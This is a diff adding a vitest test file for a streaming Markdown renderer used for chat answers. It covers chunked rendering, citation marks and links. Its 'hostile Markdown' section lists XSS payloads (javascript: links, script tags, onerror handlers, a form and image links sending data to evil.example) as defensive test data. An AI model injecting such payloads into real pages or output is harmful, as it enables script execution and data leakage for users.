@@ -1,0 +1,137 @@
+import { describe, expect, test } from "vitest";
+import { MarkdownView } from "../../src/markdown.js";
+import { cases } from "../markdown_cases.js";
+
+function createView(): { root: HTMLElement; view: MarkdownView } {
+  const root = document.createElement("div");
+  const view = new MarkdownView(root, {
+    base: "https://docs.example/page",
+    tableLabel: "Table",
+    cite: (index) => {
+      if (index > 3) {
+        return undefined;
+      }
+      const mark = document.createElement("a");
+      mark.className = "mark";
+      mark.textContent = String(index);
+      return mark;
+    },
+    code: (text, language) => {
+      const pre = document.createElement("pre");
+      pre.title = language;
+      pre.textContent = text;
+      return pre;
+    },
+  });
+  return { root, view };
+}
+
+function render(markdown: string, size = Infinity): HTMLElement {
+  const { root, view } = createView();
+  for (let end = size; end < markdown.length; end += size) {
+    view.show(markdown.slice(0, end));
+  }
+  view.finish(markdown);
+  return root;
+}
+
+const together = Object.values(cases).join("\n\n");
+
+describe("an answer that arrives in pieces looks like one that came whole", () => {
+  for (const [name, markdown] of Object.entries({ ...cases, "all of it": together, "with CRLF": together.replaceAll("\n", "\r\n") })) {
+    test(name, () => {
+      const whole = render(markdown).outerHTML;
+      for (const size of markdown.length > 1000 ? [7, 64] : [1, 2, 3, 5]) {
+        expect(render(markdown, size).outerHTML, `pieces of ${size}`).toBe(whole);
+      }
+    });
+  }
+});
+
+test("blocks that are closed are not made anew", () => {
+  const { root, view } = createView();
+  view.show("First.\n\nSecond.\n\nThird");
+  const [first] = root.children;
+  view.show("First.\n\nSecond.\n\nThird.\n\n- and\n- more");
+  expect(root.children[0]).toBe(first);
+});
+
+test("links that are defined late are links in the end", () => {
+  const root = render("See [the page][p].\n\nMore.\n\nAnd more.\n\n[p]: /docs/p\n", 3);
+  expect(root.querySelector("a")?.href).toBe("https://docs.example/docs/p");
+});
+
+test("half a mark is not shown", () => {
+  const { root, view } = createView();
+  view.show("So it is [1");
+  expect(root.textContent).toBe("So it is");
+  view.show("So it is [1].");
+  expect(root.querySelector(".mark")?.textContent).toBe("1");
+});
+
+test("marks without a source, in code or in links are text", () => {
+  const root = render("`items[1]` items[9] [see [1]](/x) \\[2] and [3]");
+  expect([...root.querySelectorAll(".mark")].map((mark) => mark.textContent)).toEqual(["3"]);
+  expect(root.textContent).toBe("items[1] items[9] see [1] [2] and3");
+});
+
+test("headings begin below the chat's own", () => {
+  expect([...render("# a\n## b\n#### c").children].map(({ tagName }) => tagName)).toEqual(["H4", "H5", "H6"]);
+});
+
+test("links lead to the page they name, others' in a new tab", () => {
+  const [own, other] = render("[a](/b) [c](https://other.example/)").querySelectorAll("a");
+  expect([own!.href, own!.target]).toEqual(["https://docs.example/b", ""]);
+  expect([other!.target, other!.rel]).toEqual(["_blank", "noopener noreferrer nofollow ugc"]);
+});
+
+describe("hostile Markdown does nothing", () => {
+  const hostile = [
+    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java\nscript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x) [z](file:///etc/passwd) [b](blob:x)",
+    "[x](&#106;avascript:alert(1)) [y](javascript&colon;alert(1)) [z](\\javascript:alert(1))",
+    "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
+    "[ref]\n\n[ref]: javascript:alert(1)",
+    "![x](https://evil.example/?q=secret) ![y][r]\n\n[r]: https://evil.example/r.png",
+    "[![x](https://evil.example/x.png)](javascript:alert(1))",
+    "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<svg onload=alert(1)>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe> <object data=x></object> <embed src=x>',
+    '<form action="https://evil.example"><input name=q><button>go</button></form>',
+    '<a href="javascript:alert(1)" style="position:fixed;inset:0">x</a> <style>*{display:none}</style>',
+    "<base href=https://evil.example> <meta http-equiv=refresh content=0> <link rel=stylesheet href=//evil.example>",
+    "```js\" onmouseover=alert(1)\n</code></pre><script>alert(1)</script>\n```",
+    "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| `<script>` | <b onclick=x>y</b> |",
+    '[x](https://a.b "t\\" onclick=\\"alert(1)")',
+    "[1]: javascript:alert(1)\n\n[1] [1](javascript:alert(1)) [2][1]",
+    "- [ ] <input onfocus=alert(1) autofocus>\n> <details open ontoggle=alert(1)>",
+    "<!--><script>alert(1)</script>--> <![CDATA[<script>]]> <?php x ?>",
+  ];
+  const ALLOWED = /^(P|H[456]|UL|OL|LI|BLOCKQUOTE|PRE|CODE|STRONG|EM|DEL|A|SPAN|BR|HR|TABLE|THEAD|TBODY|TR|TH|TD|DIV|INPUT)$/;
+  const ATTRIBUTES = /^(href|rel|target|class|start|role|tabindex|aria-label|type|disabled|checked|title)$/;
+
+  for (const markdown of hostile) {
+    test(JSON.stringify(markdown.slice(0, 60)), () => {
+      const { root, view } = createView();
+      const findings: string[] = [];
+      const inspect = (): void => {
+        for (const element of root.querySelectorAll("*")) {
+          const bad = [...element.attributes].filter(({ name }) => !ATTRIBUTES.test(name)).map(({ name }) => name);
+          const href = element.getAttribute("href") ?? "https:";
+          if (!ALLOWED.test(element.tagName) || bad.length > 0 || !/^(https?|mailto):/.test(href)) {
+            findings.push(element.outerHTML);
+          }
+          if (element instanceof HTMLInputElement && (element.type !== "checkbox" || !element.disabled)) {
+            findings.push(element.outerHTML);
+          }
+        }
+      };
+      for (let end = 3; end < markdown.length; end += 3) {
+        view.show(markdown.slice(0, end));
+        inspect();
+      }
+      view.finish(markdown);
+      inspect();
+      expect(findings).toEqual([]);
+    });
+  }
+});
